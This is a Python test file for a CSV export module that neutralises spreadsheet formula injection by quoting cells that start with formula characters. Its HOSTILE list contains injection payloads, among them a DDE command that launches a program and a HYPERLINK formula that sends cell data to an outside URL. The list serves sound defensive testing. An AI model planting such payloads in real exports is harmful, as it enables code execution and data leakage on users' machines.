"""CSV files open as data in a spreadsheet, whatever a user or a product is called."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from documents import typed
from hypothesis import given
from hypothesis import strategies as st

from flexopt.store import table_csv as tables
from flexopt.store.table_csv import harmless


def table_csv(rows: list[dict[str, object]], columns: dict[str, type]) -> str:
    return "".join(tables.table_csv(rows, columns))


HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "@SUM(1+1)",
    "+1",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{BYTE ORDER MARK}=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_is_text(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(table_csv([{"user": text}], {"user": str}), newline=""))
    assert row["user"] == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "Müller",
        "o'neil",
        'a "b" c',
        "a,b",
        "two\nlines",
        "a=b",
        "🦉",
        "\N{RIGHT-TO-LEFT MARK}שלום",
        "x" * 10_000,
        "",
    ],
)
def test_other_text_is_unchanged(text: str) -> None:
    out = table_csv([{"user": text, "n": 1}], {"user": str, "n": int})
    (row,) = csv.DictReader(io.StringIO(out, newline=""))
    assert row == {"user": text, "n": "1"}


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_comes_back_in_its_cell(texts: list[str]) -> None:
    out = table_csv([{"a": t, "b": t[::-1]} for t in texts], {"a": str, "b": str})
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows == [{"a": harmless(t), "b": harmless(t[::-1])} for t in texts]


def test_numbers_dates_and_nothing() -> None:
    columns = {"d": date, "n": int, "m": Decimal, "s": str}
    rows: list[dict[str, object]] = [
        {"d": "2026-01-01", "n": -3, "m": "-2.50", "s": None},
        {"d": None, "n": 0, "m": None, "s": ""},
    ]
    assert table_csv(rows, columns) == "d,n,m,s\n2026-01-01,-3,-2.50,\n,0,,\n"


def test_no_rows_have_a_header() -> None:
    assert table_csv([], {"a": str, "b": int}) == "a,b\n"


def test_half_a_surrogate_pair_does_not_stop_an_export(planned: dict[str, Any]) -> None:
    row = planned["assignment"][0] | {"user": "a\ud83eb"}
    assert tables.render(typed(planned | {"assignment": [row]})).decode().splitlines()[1].startswith("a?b,")
